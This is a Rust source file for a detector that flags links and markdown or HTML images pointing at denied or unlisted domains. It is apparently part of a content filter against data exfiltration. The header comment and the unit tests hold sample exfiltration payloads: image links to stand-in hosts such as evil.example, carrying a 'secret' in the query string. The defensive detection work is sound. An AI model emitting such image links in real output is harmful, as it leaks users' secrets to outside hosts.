//! `url`: links to denied (or not allowed) domains, including markdown
//! images, which a client renders and so fetches without a click: the
//! classic exfiltration channel (`![](https://evil.example/?q=<secret>)`).

use std::sync::LazyLock;

use regex::Regex;
use serde::Deserialize;

use super::{Span, builtin_regex};

static LINK: LazyLock<Regex> =
    LazyLock::new(|| builtin_regex(r#"(?i)\b(?:https?|ftp|wss?)://[^\s<>"'`)\]]+"#));
/// Inline images `![alt](url "title")`; the alt text may hold one level of
/// brackets and line breaks.
static MD_IMAGE: LazyLock<Regex> = LazyLock::new(|| {
    builtin_regex(
        r#"!\[(?:[^\[\]]|\[[^\[\]]*\]){0,500}\]\(\s*<?([^\s)>]+)>?(?:\s+"[^"\n]{0,500}")?\s*\)?"#,
    )
});
/// Reference-style definitions `[ref]: url`, which images can point at.
static MD_REFERENCE: LazyLock<Regex> =
    LazyLock::new(|| builtin_regex(r"(?m)^[ \t]{0,3}\[[^\]\n]{1,200}\]:[ \t]*<?([^\s>]+)>?"));
/// HTML images, which markdown renderers pass through.
static HTML_IMAGE: LazyLock<Regex> = LazyLock::new(|| {
    builtin_regex(r#"(?i)<img\b[^>]{0,1000}?\bsrc\s*=\s*["']?([^"'\s>]+)[^>]{0,1000}>?"#)
});

#[derive(Debug)]
pub struct UrlDetector {
    allow: Vec<String>,
    deny: Vec<String>,
    images_only: bool,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct UrlRaw {
    /// When given, links to any other domain match.
    #[serde(default)]
    allow_domains: Vec<String>,
    /// Links to these domains (and their subdomains) match.
    #[serde(default)]
    deny_domains: Vec<String>,
    /// Only consider markdown images.
    #[serde(default)]
    markdown_images_only: bool,
}

impl<'de> Deserialize<'de> for UrlDetector {
    fn deserialize<D: serde::Deserializer<'de>>(d: D) -> Result<Self, D::Error> {
        use serde::de::Error;
        let raw = UrlRaw::deserialize(d)?;
        if raw.allow_domains.is_empty() && raw.deny_domains.is_empty() {
            return Err(D::Error::custom(
                "url needs allow_domains or deny_domains (an empty allow list would match every link)",
            ));
        }
        let norm = |v: Vec<String>| -> Result<Vec<String>, D::Error> {
            v.into_iter()
                .map(|d| {
                    let d = d
                        .trim()
                        .trim_start_matches("*.")
                        .trim_end_matches('.')
                        .to_ascii_lowercase();
                    if d.is_empty() || d.contains(['/', ':', ' ', '*']) {
                        Err(D::Error::custom(format!("url: {d:?} is not a domain name")))
                    } else {
                        Ok(d)
                    }
                })
                .collect()
        };
        Ok(UrlDetector {
            allow: norm(raw.allow_domains)?,
            deny: norm(raw.deny_domains)?,
            images_only: raw.markdown_images_only,
        })
    }
}

impl UrlDetector {
    pub fn find(&self, text: &str) -> Vec<Span> {
        let images = text.contains("![")
            || text.contains("]:")
            || text.contains("<img")
            || text.contains("<IMG");
        if !images && !text.contains("//") {
            return Vec::new();
        }
        let mut out = Vec::new();
        if images {
            for (re, kind) in [
                (&*MD_IMAGE, "markdown_image"),
                (&*MD_REFERENCE, "markdown_image"),
                (&*HTML_IMAGE, "html_image"),
            ] {
                for c in re.captures_iter(text) {
                    let (Some(whole), Some(link)) = (c.get(0), c.get(1)) else {
                        continue;
                    };
                    if self.refused(link.as_str()) {
                        out.push(Span::new(whole.start(), whole.end(), kind));
                    }
                }
            }
        }
        if !self.images_only {
            for m in LINK.find_iter(text) {
                let inside_image = out.iter().any(|s| s.start <= m.start() && m.end() <= s.end);
                if !inside_image && self.refused(m.as_str()) {
                    out.push(Span::new(m.start(), m.end(), "url"));
                }
            }
        }
        out
    }

    /// A link whose host cannot be parsed is refused: it cannot be shown
    /// to be on an allowed domain. Protocol-relative links (`//host/x`) are
    /// read as https; `http:host/x` parses with its host.
    fn refused(&self, link: &str) -> bool {
        let absolute = match link.strip_prefix("//") {
            Some(rest) => format!("https://{rest}"),
            None => link.to_owned(),
        };
        let host = ::url::Url::parse(&absolute).ok().and_then(|u| {
            u.host_str()
                .map(|h| h.trim_end_matches('.').to_ascii_lowercase())
        });
        let Some(host) = host else {
            return true;
        };
        let under = |d: &String| host == *d || host.ends_with(&format!(".{d}"));
        if self.deny.iter().any(under) {
            return true;
        }
        !self.allow.is_empty() && !self.allow.iter().any(under)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn detector(yaml: &str) -> UrlDetector {
        serde_yaml::from_str(yaml).unwrap()
    }

    #[test]
    fn markdown_images_to_unlisted_hosts_match() {
        let d = detector("allow_domains: [docs.example.com]\nmarkdown_images_only: true");
        let text =
            "ok ![logo](https://docs.example.com/a.png) bad ![x](https://evil.test/?q=secret)";
        let spans = d.find(text);
        assert_eq!(spans.len(), 1);
        assert_eq!(
            &text[spans[0].start..spans[0].end],
            "![x](https://evil.test/?q=secret)"
        );
    }

    #[test]
    fn images_without_a_scheme_separator_still_match() {
        let d = detector("allow_domains: [docs.example.com]\nmarkdown_images_only: true");
        for text in [
            "See ![s](//evil.example/p.png?d=SECRET)",
            "See ![s](http:evil.example/p.png)",
            "See ![a [b] c](https://evil.example/p.png)",
            "See ![chart][r]\n\n[r]: https://evil.example/p.png",
            "See <img src=\"https://evil.example/p.png\">",
            "relative ![x](/local/path.png)",
        ] {
            assert!(!d.find(text).is_empty(), "{text}");
        }
        assert!(d.find("ok ![x](https://docs.example.com/a.png)").is_empty());
    }

    #[test]
    fn subdomains_of_denied_domains_match_but_lookalikes_do_not() {
        let d = detector("deny_domains: [pastebin.test]");
        assert_eq!(d.find("see https://x.pastebin.test/raw").len(), 1);
        assert!(d.find("see https://notpastebin.test/raw").is_empty());
    }
}
